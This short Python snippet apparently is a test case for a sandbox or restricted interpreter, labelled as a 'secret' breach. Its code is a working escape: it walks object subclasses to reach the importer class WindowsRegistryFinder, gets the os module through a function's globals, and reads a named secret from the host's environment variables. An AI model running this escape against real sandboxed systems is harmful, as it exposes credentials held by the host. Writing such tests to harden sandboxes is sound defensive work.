# posix.environ of the interpreter that the host started first, by a class of its importer's.
# breach: secret
found = {}
for one in type.__subclasses__(object):
    if one.__name__ == "WindowsRegistryFinder":
        found.update(one._open_registry.__globals__["_os"].environ)
found[SECRET_NAME.encode()]
